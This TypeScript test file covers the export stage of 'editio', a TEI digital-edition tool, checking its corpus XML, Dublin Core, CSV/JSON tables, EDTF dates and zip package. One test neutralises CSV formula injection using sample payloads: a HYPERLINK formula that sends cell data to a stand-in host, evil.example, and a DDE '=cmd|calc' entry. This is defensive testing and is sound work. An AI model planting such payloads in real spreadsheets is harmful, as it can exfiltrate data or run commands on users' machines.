import { expect } from 'chai';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { findXmlFiles, loadSources } from '../../src/load/load.js';
import { parse } from '../../src/parse/parse.js';
import { toCsv } from '../../src/exchange/export.js';
import { validate } from '../../src/validate/validate.js';
import { fixtures, read, removeDir, requireShared, runCli, teiAllSchema, tempDir } from '../helpers.js';

describe('export (the edition as data for repositories)', function () {
  this.timeout(120_000);
  let out: string;
  before(() => {
    out = tempDir();
    expect(runCli(['export', '--out', out]).status).to.equal(0);
  });
  after(() => removeDir(out));

  it('writes the whole edition as one teiCorpus: header, authority lists and every document', () => {
    const corpus = read(path.join(out, 'corpus.xml'));
    expect(corpus).to.match(/^<\?xml [^>]*\?>\n<\?xml-model href="http:\/\/www\.tei-c\.org\/release\/xml\/tei\/custom\/schema\/relaxng\/tei_all\.rng"/);
    expect(corpus.match(/<TEI /g)).to.have.length(4);
    expect(corpus).to.contain('<standOff>');
    const doc = parse({ path: 'corpus.xml', name: 'corpus.xml', bytes: Buffer.from(corpus), role: 'document' });
    expect(doc.messages).to.deep.equal([]);
    expect(doc.doc!.tree.name).to.equal('teiCorpus');
  });

  describe('against the official tei_all', () => {
    // And the corpus of letters that each carry their own index records alike (its ids prefixed per letter).
    let letters: string;
    before(function () {
      requireShared(this, teiAllSchema);
      letters = tempDir();
      expect(runCli(['build', path.join(fixtures, 'editions', 'letters-with-records'), '--out', letters]).status).to.equal(0);
    });
    after(() => letters && removeDir(letters));
    it('finds every TEI file editio writes valid: corpus.xml and the published sources', async () => {
      const { files } = await findXmlFiles([path.join(out, 'corpus.xml'), path.join(out, 'tei'), path.join(letters, 'corpus.xml')]);
      const { sources } = await loadSources(files);
      const verdicts = await validate(
        sources.map((s) => parse(s).doc!),
        { schema: teiAllSchema },
      );
      expect(verdicts).to.have.length(7);
      for (const v of verdicts) expect(v.messages, v.doc.source.name).to.deep.equal([]);
    });
  });

  it('describes each document in Dublin Core (oai_dc)', () => {
    const dc = read(path.join(out, 'metadata', '1966-09-30-protocol-agreement.dc.xml'));
    expect(dc).to.match(/<oai_dc:dc [^>]*xmlns:oai_dc="http:\/\/www\.openarchives\.org\/OAI\/2\.0\/oai_dc\/"/);
    expect(dc).to.contain('<dc:date>1966-09-30</dc:date>');
    expect(dc).to.contain('<dc:subject>MiG-21</dc:subject>');
    expect(dc).to.contain('<dc:coverage>North Vietnam</dc:coverage>');
    expect(dc).to.contain('<dc:identifier>https://editions.example.org/north-korean-pilots/documents/1966-09-30-protocol-agreement.html</dc:identifier>');
  });

  it('tabulates the documents for spreadsheets (CSV) and scripts (JSON), with standard names', () => {
    const rows = JSON.parse(read(path.join(out, 'metadata', 'documents.json'))) as { id: string; persons: string[]; place: string }[];
    expect(rows.map((r) => r.id)).to.deep.equal(['1966-09-21-giap-decision', '1966-09-30-protocol-agreement', '1967-07-06-telegram-pyongyang-bucharest']);
    expect(rows[0]!.persons).to.deep.equal(['Võ Nguyên Giáp', 'Phung The Tai']);
    expect(rows[2]!.place).to.equal('Pyongyang');
    const csv = read(path.join(out, 'metadata', 'documents.csv')).split('\r\n');
    expect(csv[0]).to.equal('id,title,date,date_edtf,language,place,persons,places,organisations,url');
    expect(csv[3]).to.match(
      /^1967-07-06-telegram-pyongyang-bucharest,"Telegram from Pyongyang to Bucharest, No\. 76\.247",1967-07-06,1967-07-06,en,Pyongyang,/,
    );
  });

  it('gives a date with a range or a doubt in EDTF, in the tables, Dublin Core and the DTS record', () => {
    const rough = tempDir();
    try {
      expect(runCli(['export', path.join(fixtures, 'editions', 'letters-dated-roughly'), '--out', rough]).status).to.equal(0);
      const rows = JSON.parse(read(path.join(rough, 'metadata', 'documents.json'))) as { id: string; date: string; date_edtf: string }[];
      expect(rows.slice(0, 2).map(({ id, date, date_edtf }) => [id, date, date_edtf])).to.deep.equal([
        ['R1', '1890-09-01', '[1890-09-01..1890-11-30]'],
        ['R2', '1890-10', '1890-10?'],
      ]);
      expect(read(path.join(rough, 'metadata', 'R1.dc.xml'))).to.contain('<dc:date>[1890-09-01..1890-11-30]</dc:date>');
      const resource = JSON.parse(read(path.join(rough, 'dts', 'collection', 'R2.json')));
      expect(resource.dublinCore.date).to.equal('1890-10?');
    } finally {
      removeDir(rough);
    }
  });

  it('quotes CSV fields as RFC 4180 says', () => {
    const row = {
      id: 'a',
      title: 'He said "no", twice',
      date: '',
      date_edtf: '',
      language: 'en',
      place: '',
      persons: ['x', 'y'],
      places: [],
      organisations: [],
      url: '',
    };
    expect(toCsv([row]).split('\r\n')[1]).to.equal('a,"He said ""no"", twice",,,en,,x; y,,,');
  });

  it('neutralises CSV fields a spreadsheet would run as formulas, and only those', () => {
    const row = (title: string, persons: string[] = []) => ({
      id: 'a',
      title,
      date: '',
      date_edtf: '',
      language: 'en',
      place: '',
      persons,
      places: [],
      organisations: [],
      url: '',
    });
    const titleCell = (title: string, persons?: string[]): string =>
      toCsv([row(title, persons)])
        .split('\r\n')[1]!
        .split(',')[1]!;
    expect(titleCell('=HYPERLINK("http://evil.example/?"&A1;"Click")')).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")"`);
    for (const formula of ['+1+1', '-2+3', '@SUM(A1)', '\t=1', ' =1', '\uff1d1']) expect(titleCell(formula), JSON.stringify(formula)).to.match(/^"?'/);
    for (const plain of ['Decision of 21 September 1966', '1966-09-21', 'a = b', 'MiG-21']) expect(titleCell(plain)).to.equal(plain);
    expect(toCsv([row('x', ['=cmd|calc', 'Giap'])]).split('\r\n')[1]).to.contain(",'=cmd|calc; Giap,");
  });

  it('zips it all but corpus.xml with a README, the licence and CITATION.cff', () => {
    const zip = unzipSync(readFileSync(path.join(out, 'editio-edition.zip')));
    expect(zip).not.to.have.property('corpus.xml');
    expect(Buffer.from(zip['tei/authorities.xml']!).equals(readFileSync(path.join(out, 'tei', 'authorities.xml')))).to.equal(true);
    expect(Object.keys(zip).sort()).to.include.members([
      'CITATION.cff',
      'LICENSE.txt',
      'README.txt',
      'metadata/documents.csv',
      'schemas/editio.rng',
      'tei/1966-09-21-giap-decision.xml',
      'tei/authorities.xml',
    ]);
    const cff = strFromU8(zip['CITATION.cff']!);
    expect(cff).to.match(/^cff-version: 1\.2\.0\n/);
    expect(cff).to.contain('license: CC-BY-4.0');
    expect(cff).to.contain('url: "https://editions.example.org/north-korean-pilots/"');
  });
});
